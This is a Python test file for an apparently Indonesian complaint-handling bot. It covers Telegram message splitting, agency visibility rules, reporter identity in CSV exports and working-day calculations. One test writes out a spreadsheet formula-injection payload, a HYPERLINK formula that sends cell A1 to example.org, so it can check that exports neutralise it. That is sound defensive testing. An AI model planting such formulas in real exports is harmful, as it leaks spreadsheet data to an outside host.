"""Staff views without Telegram: digest splitting, filters, CSV identity rules."""

from __future__ import annotations

import datetime as dt
from importlib import resources

import pytest

from conversations.caserow import CaseRow
from conversations.casework import (
    CaseworkError,
    case_clock,
    parse_casework,
    shipped_casework,
    similarity,
)
from conversations.jurisdiction.engine import default_jurisdiction
from conversations.jurisdiction.models import Decision
from conversations.staffviews import csv_row, digest_messages, status_notification
from conversations.textsplit import MESSAGE_LIMIT, split_html, units, visible_length
from conversations.visibility import Facts, Viewer, allows
from conversations.workdays import WEEKDAYS_ONLY, indonesian_calendar
from sandbox.html_check import visible_text

J = default_jurisdiction()


def case(n: int, **changes: object) -> CaseRow:
    values: dict[str, object] = dict(
        id=n, ticket=f"LN-0000-0000-{n:04d}", status="diterima",
        status_changed_at=dt.datetime(2024, 11, 20, tzinfo=dt.UTC),
        created_at=dt.datetime(2024, 11, 20, tzinfo=dt.UTC), category="state_facilities",
        person_kind="asn", person_details=None, province_code="36", regency_code="36.73",
        place_detail=None, event_date=dt.date(2024, 11, 19), learned_date=None,
        public_service="no", service_name=None, complained=None,
        description="<b>Mobil dinas</b> & spanduk " + "x" * 400, identity="anonymous",
        reporter_name=None, reporter_phone=None, reporter_chat="telegram:1", language="id",
        decision_json=Decision().model_dump_json(), evidence_count=2, bodies={"bawaslu": "Bawaslu Kota Serang"},
    )  # fmt: skip
    values.update(changes)
    return CaseRow(**values)  # type: ignore[arg-type]


def test_emoji_heavy_digests_are_measured_as_telegram_measures() -> None:
    """Fifteen reports of emoji: Python counts half what Telegram counts."""
    cases = [case(n, description="😡" * 2990) for n in range(1, 16)]
    parts = digest_messages(cases, J, shipped_casework(), dt.date(2024, 11, 20), "id", "")
    assert sum(len(part.buttons) for part in parts) == 15  # every case is in some part
    for part in parts:
        assert units(visible_text(part.text("id"))) <= MESSAGE_LIMIT


def test_long_texts_split_on_safe_boundaries() -> None:
    text = "<b>Laporan</b>\n" + "😀" * 2990 + "\n<i>" + "kata " * 1500 + "</i>\nakhir &amp; selesai"
    assert visible_length(text) > MESSAGE_LIMIT
    parts = split_html(text)
    assert len(parts) > 1
    for part in parts:
        assert units(visible_text(part)) <= MESSAGE_LIMIT  # each part is valid and fits
    joined = "".join(visible_text(part) for part in parts)
    assert joined.replace("\n", "").replace(" ", "") == visible_text(text).replace(
        "\n", ""
    ).replace(" ", "")  # nothing lost, nothing doubled
    assert split_html("short <b>one</b>") == ["short <b>one</b>"]
    caption = split_html("x" * 3000, 1024)
    assert [units(part) for part in caption] == [1024, 1024, 952]


def test_long_digests_split_at_case_boundaries() -> None:
    cases = [case(n) for n in range(1, 41)]
    parts = digest_messages(cases, J, shipped_casework(), dt.date(2024, 11, 20), "id", "")
    assert len(parts) > 1
    shown = []
    for part in parts:
        text = part.text("id")
        assert units(visible_text(text)) <= MESSAGE_LIMIT  # valid HTML, short enough
        assert "&lt;b&gt;Mobil dinas&lt;/b&gt; &amp; spanduk" in text
        assert len(part.buttons) <= 20
        shown += [row[0].data for row in part.buttons]
        for row in part.buttons:  # each case's block and its button are in the same message
            assert row[0].data.removeprefix("ks:") in text
            assert row[0].label("id") == f"Buka {row[0].data.removeprefix('ks:')}"
    assert shown == [f"ks:LN-0000-0000-{n:04d}" for n in range(40, 10, -1)]  # the newest 30
    assert "40 laporan baru" in parts[0].text("id")


def test_visibility_rule() -> None:
    policy = J.visibility

    def seen(agency: str, scope: str, case: Facts, admin: bool = False) -> bool:
        return allows(policy.sees(Viewer(agency, scope, admin)), case)

    both = Facts(("bawaslu", "ombudsman"), "asn", "36", "36.73", "diterima")
    assert seen("ombudsman", "36", both) and seen("ombudsman", "36.73", both)
    assert not seen("ombudsman", "36.04", both) and not seen("ombudsman", "51", both)
    assert not seen("ombudsman", "", Facts(("bawaslu",), "asn", "36", None, "diterima"))
    # an overseer (rules.toml: inspektorat sees = "officials") sees officials' cases in its area
    assert seen("inspektorat", "36", Facts((), "asn", "36", None, "dirujuk"))
    assert not seen("inspektorat", "36", Facts(("ombudsman",), "private", "36", None, "diterima"))
    # administrators also see what no body received; an administrator of no body only that
    referred = Facts((), "private", "51", None, "dirujuk")
    assert seen("", "", referred, admin=True) and not seen("bawaslu", "36", referred)
    assert seen("bawaslu", "36", referred, admin=True)
    assert not seen("", "", both, admin=True)
    # identity: only a handling body's staff
    assert allows(policy.sees_identity(Viewer("bawaslu", "")), both)
    assert not allows(policy.sees_identity(Viewer("inspektorat", "36")), both)
    assert policy.would_see(Viewer("bkn", ""), both, "bkn")
    assert not policy.would_see(
        Viewer("inspektorat", ""), Facts((), "private", "36", None, "diterima"), "inspektorat"
    )


def test_csv_identity_only_for_open_reports_and_handling_bodies() -> None:
    open_case = case(1, identity="open", reporter_name="Joko", reporter_phone="+62811")
    secret = case(2, identity="confidential", reporter_name="Sri", reporter_phone="+62812")
    assert csv_row(open_case, J, "bawaslu")[-2:] == ["Joko", "'+62811"]
    assert csv_row(secret, J, "bawaslu")[-2:] == ["", ""]
    # an inspectorate overseeing the area sees the case, not who reported it
    assert csv_row(open_case, J, "inspektorat")[-2:] == ["", ""]
    assert csv_row(open_case, J, "ombudsman")[-2:] == ["", ""]
    assert csv_row(open_case, J, None)[-2:] == ["Joko", "'+62811"]  # the operator's export


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_run_as_formulas(start: str) -> None:
    evil = f'{start}HYPERLINK("http://example.org/?x="&A1,"klik")'
    row = csv_row(
        case(1, identity="open", reporter_name=evil, reporter_phone="+62811"), J, "bawaslu"
    )
    assert row[-2] == "'" + evil
    assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_working_days_and_similarity() -> None:
    calendar = indonesian_calendar()
    friday = dt.date(2024, 11, 22)
    assert calendar.add_working_days(friday, 1) == dt.date(2024, 11, 25)
    assert calendar.add_working_days(friday, 2) == dt.date(2024, 11, 26)
    # 27 November 2024 was the Pilkada voting day, a national holiday
    assert calendar.add_working_days(friday, 3) == dt.date(2024, 11, 28)
    assert WEEKDAYS_ONLY.add_working_days(friday, 3) == dt.date(2024, 11, 27)
    # Idul Fitri 2024: 10-11 April, collective leave 8, 9, 12 and 15 April
    assert calendar.add_working_days(dt.date(2024, 4, 5), 1) == dt.date(2024, 4, 16)
    # the service clock counts the same way: 2 working days in "diterima" from 5 April 2024
    clock = case_clock(
        shipped_casework(),
        "diterima",
        dt.date(2024, 4, 5),
        dt.date(2024, 4, 5),
        dt.date(2024, 4, 16),
    )
    assert clock.due == dt.date(2024, 4, 17) and clock.state == "near"
    assert similarity("Budi Santoso, Camat Serang", "camat serang budi") == 1.0
    assert similarity("Kepala Dinas Pendidikan", "Camat Serang") == 0.0
    assert similarity(None, "x") == 0.0


@pytest.mark.parametrize(
    ("text", "limit", "parts"),
    [
        ("<b>abcde</b>\nfghij klmno\npqrstuvwxyzabc", 10,
         ["<b>abcde</b>", "fghij ", "klmno", "pqrstuvwxy", "zabc"]),
        ("<i>aa bb cc dd ee ff</i>", 6, ["<i>aa bb </i>", "<i>cc dd </i>", "<i>ee ff</i>"]),
        ("  indented line\nsecond  line", 8, ["indented", "line", "second  ", "line"]),
        ("&amp;" * 6, 4, ["&amp;" * 4, "&amp;" * 2]),
        ("x" * 9 + "\ny", 10, ["x" * 9, "y"]),
        ("x" * 8 + "\ny", 10, ["x" * 8 + "\ny"]),
        ("<b>12345</b>67890", 10, ["<b>12345</b>67890"]),
        ("<b>123456</b>78901", 10, ["<b>123456</b>", "78901"]),
        ("😀" * 6, 10, ["😀" * 5, "😀"]),
    ],
)  # fmt: skip
def test_split_points_are_exact(text: str, limit: int, parts: list[str]) -> None:
    """Where a message is cut: at a line, else between words, else between characters; tags
    count nothing, an entity one, an emoji two; open tags are closed and opened again."""
    assert split_html(text, limit) == parts


def test_final_statuses_are_derived_from_the_transitions() -> None:
    casework = shipped_casework()
    assert casework.final == {"selesai", "ditolak"}
    rejected = status_notification("LN-1", "ditolak", None, "id", casework.final)
    assert rejected.buttons == () and "Ditolak" in rejected.text("id")
    verifying = status_notification("LN-1", "diverifikasi", None, "id", casework.final)
    assert verifying.buttons[0][0].data == "ai:LN-1"


@pytest.mark.parametrize(
    ("change", "error"),
    [
        (("ditolak = []\n", ""), "no entry for ditolak"),
        (("selesai = []\nditolak = []\n", 'selesai = ["diterima"]\nditolak = ["diterima"]\n'),
         "no final status"),
    ],
)  # fmt: skip
def test_casework_file_must_list_every_status_and_a_final_one(
    change: tuple[str, str], error: str
) -> None:
    shipped = (resources.files("conversations") / "data" / "casework.toml").read_text("utf-8")
    assert change[0] in shipped
    with pytest.raises(CaseworkError, match=error):
        parse_casework(shipped.replace(*change))
